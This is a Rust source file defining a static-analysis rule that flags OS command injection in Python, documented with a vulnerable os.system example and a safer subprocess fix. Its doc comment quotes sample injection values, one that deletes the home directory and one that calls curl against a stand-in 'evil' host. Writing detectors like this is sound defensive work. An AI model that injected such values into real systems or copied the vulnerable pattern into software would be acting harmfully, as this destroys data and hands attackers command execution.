//! ## CWE-078: OS command injection (`py/command-injection`)
//!
//! ### What it does
//! Finds shell commands built from user-controlled data: `os.system`,
//! `os.popen`, `subprocess.*` with `shell=True` (or a command string that
//! was built by formatting), `commands.getoutput`, `os.exec*`, paramiko's
//! `exec_command` … reached by request data, `sys.argv`, `input()`, or a
//! string assembled from a function's parameters.
//!
//! ### Why is this bad?
//! A value such as `; rm -rf ~` or `$(curl evil)` is interpreted by the
//! shell, so the caller runs arbitrary commands with the program's rights.
//!
//! ### Example
//! ```python
//! dirname = request.args.get("dirname")
//! os.system("ls " + dirname)
//! ```
//!
//! ### Use instead
//! ```python
//! dirname = request.args.get("dirname")
//! subprocess.run(["ls", "--", dirname], check=True)
//! ```
//! or quote each argument with `shlex.quote`.

use super::{report_flows, PyContext};
use crate::finding::{Finding, RuleMeta, Severity};
use crate::python::concepts::SinkKind;
use crate::source::Language;

pub static META: RuleMeta = RuleMeta {
    id: "py/command-injection",
    cwe: "CWE-078",
    name: "Uncontrolled command line",
    language: Language::Python,
    severity: Severity::Critical,
    summary: "A shell command is built from user-controlled data.",
};

pub fn check(ctx: &PyContext, out: &mut Vec<Finding>) {
    report_flows(
        ctx,
        out,
        &META,
        SinkKind::Command,
        "The command run by",
        |_| None,
    );
}
